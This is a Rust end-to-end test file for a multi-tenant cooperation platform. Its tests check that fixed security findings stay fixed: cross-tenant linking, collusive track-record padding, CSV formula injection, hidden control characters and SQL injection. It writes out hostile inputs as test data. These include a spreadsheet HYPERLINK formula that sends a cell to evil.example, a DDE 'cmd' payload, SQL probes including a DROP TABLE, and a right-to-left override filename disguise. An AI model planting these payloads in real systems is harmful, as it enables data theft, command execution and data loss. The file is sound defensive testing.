//! Attacks of the December 2026 security review that crossed tenants through
//! links between objects (docs/SECURITY.md, finding 2): each worked on the
//! code before the fix, and each is paired with the same step by someone
//! entitled to it, which must succeed.

use chrono::{Duration, Utc};
use sea_orm::{ConnectionTrait, Database};
use serde_json::{Value, json};

use crate::world::*;

const CREATE_PROJECT: &str = "mutation($input: CreateProjectInput!) { createProject(input: $input) { project { id need { id status } } } }";

fn project_step(op: &str) -> String {
    format!("mutation($id: ID!) {{ {op}(input: {{id: $id}}) {{ project {{ id status }} }} }}")
}

/// Takes project `id` through `ops` with every party's consent: `invited`
/// accept first; each binding move is called by every one of `parties`
/// (the last call moves it), a start by the first.
async fn with_every_party(
    t: &Tenants<'_>,
    id: &str,
    invited: &[Who],
    parties: &[Who],
    ops: &[&str],
) {
    for who in invited {
        t.ok(
            *who,
            &project_step("acceptProjectInvitation"),
            json!({"id": id}),
        )
        .await;
    }
    for op in ops {
        let callers = if *op == "startProject" {
            &parties[..1]
        } else {
            parties
        };
        for who in callers {
            t.ok(*who, &project_step(op), json!({"id": id})).await;
        }
    }
}

async fn need_status(t: &Tenants<'_>, need: &str) -> Value {
    let data = t
        .ok(
            Who::Admin,
            "query($id: ID!) { need(id: $id) { status version } }",
            json!({"id": need}),
        )
        .await;
    data["need"]["status"].clone()
}

e2e!(
    a_stranger_cannot_tie_another_tenants_need_or_capability_to_a_project,
    |app| async move {
        let t = Tenants::build(&app).await;
        // B names A's public need in a project of its own with A as a party:
        // run to IN_PROGRESS, it would lock the need as IN_COOPERATION
        // without A being able to see, let alone end, the project.
        let by_b = |field: &str, id: &str, other: &str| {
            json!({"input": {"title": "hijack", "area": "OTHER",
                "partyOrganizationIds": [t.w.org_b, other], field: id}})
        };
        let body = t
            .refused(
                Who::B,
                CREATE_PROJECT,
                by_b("needId", &t.need_public, &t.w.org_a),
                "FORBIDDEN",
            )
            .await;
        assert!(
            crate::common::error_message(&body).contains("needId"),
            "{body}"
        );
        t.refused(
            Who::B,
            CREATE_PROJECT,
            by_b("capabilityId", &t.cap_published, &t.w.org_u),
            "FORBIDDEN",
        )
        .await;
        // A's own need in a project whose parties leave A out is refused too.
        t.refused(
            Who::Admin,
            CREATE_PROJECT,
            json!({"input": {"title": "without the owner", "area": "OTHER",
                "partyOrganizationIds": [t.w.org_b], "needId": t.need_public}}),
            "BAD_USER_INPUT",
        )
        .await;
        assert_eq!(need_status(&t, &t.need_public).await, "PUBLISHED");
        let projects = project_count(&t).await;
        let before = projects["projects"]["totalCount"].clone();

        // The owner links its own need, with B as a party: allowed, and the
        // need follows the project.
        let data = t
            .ok(
                Who::A,
                CREATE_PROJECT,
                json!({"input": {"title": "甲乙合作 A with B", "area": "OTHER",
                    "partyOrganizationIds": [t.w.org_a, t.w.org_b], "needId": t.need_public}}),
            )
            .await;
        let project = crate::common::text(&data["createProject"]["project"]["id"]);
        with_every_party(
            &t,
            &project,
            &[Who::B],
            &[Who::A, Who::B],
            &["agreeProject", "startProject"],
        )
        .await;
        assert_eq!(need_status(&t, &t.need_public).await, "IN_COOPERATION");
        let projects = project_count(&t).await;
        assert_eq!(
            projects["projects"]["totalCount"],
            before.as_i64().unwrap() + 1,
            "only the owner's project was created"
        );
    }
);

/// `{ projects { totalCount } }` as the platform admin sees it.
async fn project_count(t: &Tenants<'_>) -> Value {
    t.ok(
        Who::Admin,
        "{ projects(first: 100) { totalCount } }",
        json!({}),
    )
    .await
}

const CREATE_CAPABILITY: &str = "mutation($input: CreateCapabilityInput!) { createCapability(input: $input) { capability { id talents { id } } } }";

e2e!(
    a_capability_names_only_talents_its_author_may_manage,
    |app| async move {
        let t = Tenants::build(&app).await;
        let with_talent = |talents: Vec<&str>| {
            json!({"organizationId": t.w.org_b, "title": "Borrowed expert 借来的专家",
                "summary": "B claims U's professor.", "keywords": ["轴承"],
                "disciplineCodes": ["460"], "trl": 5, "talentIds": talents})
        };
        t.refused(
            Who::B,
            CREATE_CAPABILITY,
            json!({"input": with_talent(vec![&t.talent_u])}),
            "FORBIDDEN",
        )
        .await;
        t.refused(
            Who::B,
            "mutation($input: [CreateCapabilityInput!]!) { importCapabilities(input: {rows: $input}) { capabilities { id } } }",
            json!({"input": [with_talent(vec![&t.talent_u])]}),
            "FORBIDDEN",
        )
        .await;
        // B's own capability, then U's talent added by an edit: refused.
        let data = t
            .ok(
                Who::B,
                CREATE_CAPABILITY,
                json!({"input": with_talent(vec![])}),
            )
            .await;
        let own = crate::common::text(&data["createCapability"]["capability"]["id"]);
        let update = "mutation($input: UpdateCapabilityInput!) { updateCapability(input: $input) { capability { id talents { id } } } }";
        t.refused(
            Who::B,
            update,
            json!({"input": {"id": own, "talentIds": [t.talent_u]}}),
            "FORBIDDEN",
        )
        .await;
        let data = t
            .ok(
                Who::Admin,
                "query($id: ID!) { capability(id: $id) { talents { id } } }",
                json!({"id": own}),
            )
            .await;
        assert_eq!(data["capability"]["talents"], json!([]));

        // U names its own talent, and keeps it through an edit of another field.
        let data = t
            .ok(
                Who::U,
                CREATE_CAPABILITY,
                json!({"input": {"organizationId": t.w.org_u, "title": "Own expert 本校专家",
                    "summary": "U names its professor.", "keywords": ["轴承"],
                    "disciplineCodes": ["460"], "trl": 5, "talentIds": [t.talent_u]}}),
            )
            .await;
        assert_eq!(
            data["createCapability"]["capability"]["talents"][0]["id"],
            t.talent_u.as_str()
        );
        t.ok(
            Who::U,
            update,
            json!({"input": {"id": t.cap_published, "trl": 6}}),
        )
        .await;
    }
);

/// U's track record as the matching of A's public need explains it for
/// `cap_published` (0 when the factor is absent).
async fn track_record(t: &Tenants<'_>) -> f64 {
    let data = t
        .ok(
            Who::A,
            "query($id: ID!) { need(id: $id) { matches(first: 50) { nodes { capability { id } factors { name value } } } } }",
            json!({"id": t.need_public}),
        )
        .await;
    let nodes = data["need"]["matches"]["nodes"].as_array().unwrap();
    let found = nodes
        .iter()
        .find(|m| m["capability"]["id"] == t.cap_published.as_str())
        .unwrap_or_else(|| panic!("U's capability is suggested: {data}"));
    found["factors"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["name"] == "TRACK_RECORD")
        .map_or(0.0, |f| f["value"].as_f64().unwrap())
}

e2e!(
    a_track_record_counts_only_real_cooperation,
    // Rankings are not kept: the test moves dates behind the server's back.
    settings = |s: &mut iurhub_api::Settings| s.matching_cache_needs = 0,
    |app| async move {
        let t = Tenants::build(&app).await;
        assert_eq!(track_record(&t).await, 0.0);

        // One member of U runs projects with a party of its choice through
        // to COMPLETED in seconds: no track record.
        let mut self_made = Vec::new();
        for n in 0..3 {
            let data = t
                .ok(
                    Who::U,
                    CREATE_PROJECT,
                    json!({"input": {"title": format!("self-made {n}"), "area": "OTHER",
                        "partyOrganizationIds": [t.w.org_u, t.w.org_b]}}),
                )
                .await;
            let id = crate::common::text(&data["createProject"]["project"]["id"]);
            // Even with B's consent at every step (the two collude).
            with_every_party(
                &t,
                &id,
                &[Who::B],
                &[Who::U, Who::B],
                &["agreeProject", "startProject", "completeProject"],
            )
            .await;
            self_made.push(raw_id(&id));
        }
        // The A–U project of an accepted match, completed at once: not yet.
        with_every_party(
            &t,
            &t.project,
            &[],
            &[Who::A, Who::U],
            &["startProject", "completeProject"],
        )
        .await;
        assert_eq!(track_record(&t).await, 0.0, "nothing counts yet");

        // After 40 days the A–U project counts: 1 / (1 + 2). The self-made
        // ones still do not: no accepted match, no coordinator behind them.
        let db = Database::connect(app.database_url.as_str()).await.unwrap();
        let since = (Utc::now() - Duration::days(40)).to_rfc3339();
        self_made.push(raw_id(&t.project));
        let ids = self_made
            .iter()
            .map(i64::to_string)
            .collect::<Vec<_>>()
            .join(",");
        db.execute_unprepared(&format!(
            "UPDATE cooperation_projects SET created_at = '{since}' WHERE id IN ({ids})"
        ))
        .await
        .unwrap();
        db.close().await.ok();
        // Rows edited behind the server's back reach the track records it
        // keeps in memory at the next completion (which reads every track
        // record again) or the next start: U completes one more self-made
        // project, itself no track record.
        let data = t
            .ok(
                Who::U,
                CREATE_PROJECT,
                json!({"input": {"title": "self-made 3", "area": "OTHER",
                    "partyOrganizationIds": [t.w.org_u, t.w.org_b]}}),
            )
            .await;
        let id = crate::common::text(&data["createProject"]["project"]["id"]);
        with_every_party(
            &t,
            &id,
            &[Who::B],
            &[Who::U, Who::B],
            &["agreeProject", "startProject", "completeProject"],
        )
        .await;
        let value = track_record(&t).await;
        assert!((value - 1.0 / 3.0).abs() < 1e-9, "{value}");
    }
);

e2e!(
    a_formula_planted_in_a_project_title_is_plain_text_in_the_csv_export,
    |app| async move {
        let t = Tenants::build(&app).await;
        // B names A as a party, so the project lands in A's export.
        let planted = [
            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
        ];
        for title in planted {
            t.ok(
                Who::B,
                CREATE_PROJECT,
                json!({"input": {"title": title, "area": "OTHER",
                    "partyOrganizationIds": [t.w.org_b, t.w.org_a]}}),
            )
            .await;
        }
        let (status, body) = t.rest(Who::A, "/api/v1/projects.csv").await;
        assert_eq!(status, 200, "{body}");
        let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
        let title = reader
            .headers()
            .unwrap()
            .iter()
            .position(|h| h == "title")
            .expect("a title column");
        let titles: Vec<String> = reader
            .records()
            .map(|r| r.unwrap()[title].to_owned())
            .collect();
        for planted in planted {
            assert!(
                titles.contains(&format!("'{planted}")),
                "{planted} is not neutralised: {titles:?}"
            );
        }
        // No cell of the file starts a formula.
        let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        // The title itself is kept as written.
        let data = t
            .ok(
                Who::A,
                "{ projects(first: 100) { nodes { title } } }",
                json!({}),
            )
            .await;
        assert!(data.to_string().contains("-2+3"), "{data}");
    }
);

e2e!(
    hidden_characters_are_refused_in_names_and_titles,
    |app| async move {
        let t = Tenants::build(&app).await;
        // NUL, the C1 "next line" that iCalendar readers take as a line
        // break, and a right-to-left override that disguises a text.
        for bad in [
            "SEM\u{0}",
            "SEM\u{85}DTSTART:19700101",
            "SEM \u{202E}gnp.exe",
        ] {
            t.refused(
                Who::UStaff,
                "mutation($input: UpdateInstrumentInput!) { updateInstrument(input: $input) { instrument { id } } }",
                json!({"input": {"id": t.instrument, "name": bad}}),
                "BAD_USER_INPUT",
            )
            .await;
            t.refused(
                Who::A,
                CREATE_PROJECT,
                json!({"input": {"title": bad, "area": "OTHER", "partyOrganizationIds": [t.w.org_a]}}),
                "BAD_USER_INPUT",
            )
            .await;
        }
        let (status, ics) = t
            .rest(
                Who::A,
                &format!("/api/v1/instruments/{}/calendar.ics", t.instrument),
            )
            .await;
        assert_eq!(status, 200);
        assert!(!ics.contains(['\u{0}', '\u{85}', '\u{202E}']), "{ics}");
    }
);

e2e!(sql_injection_probes_hold, |app| async move {
    let t = Tenants::build(&app).await;
    // Texts that end a quoted string, comment out the rest, or widen a LIKE:
    // each is only text to search for. The leak check of `Tenants` fails on
    // any hidden marker in any answer; none may be an internal error.
    let probes = [
        "' OR '1'='1",
        "%' OR 1=1 --",
        "'); DROP TABLE tech_needs; --",
        "\" OR \"\"=\"",
        "%",
        "_",
        "\\",
        "SECRET-A-CONF-7f3' OR visibility='CONFIDENTIAL",
    ];
    for probe in probes {
        for who in [Who::Anon, Who::B, Who::U] {
            for query in [
                "query($k: String!) { needs(first: 100, filter: {keyword: $k}) { totalCount nodes { id title } } }",
                "query($k: String!) { capabilities(first: 100, filter: {keyword: $k}) { totalCount nodes { id title } } }",
                "query($k: String!) { search(query: $k, first: 50) { edges { node { __typename } } } }",
            ] {
                let body = t.gql(who, query, json!({"k": probe})).await;
                let code = crate::common::error_code(&body);
                assert!(
                    code.is_none() || code.as_deref() == Some("BAD_USER_INPUT"),
                    "{who:?} {probe}: {body}"
                );
            }
            let path = format!("/api/v1/needs?keyword={}", url_escape(probe));
            let (status, body) = t.rest(who, &path).await;
            assert!(status == 200 || status == 400, "{status} {body}");
        }
    }
    // The table is still there, and A still sees its confidential need.
    let data = t
        .ok(Who::A, "{ needs(first: 100) { totalCount } }", json!({}))
        .await;
    assert!(data["needs"]["totalCount"].as_i64().unwrap() >= 5, "{data}");
});

use crate::common::url_encode as url_escape;
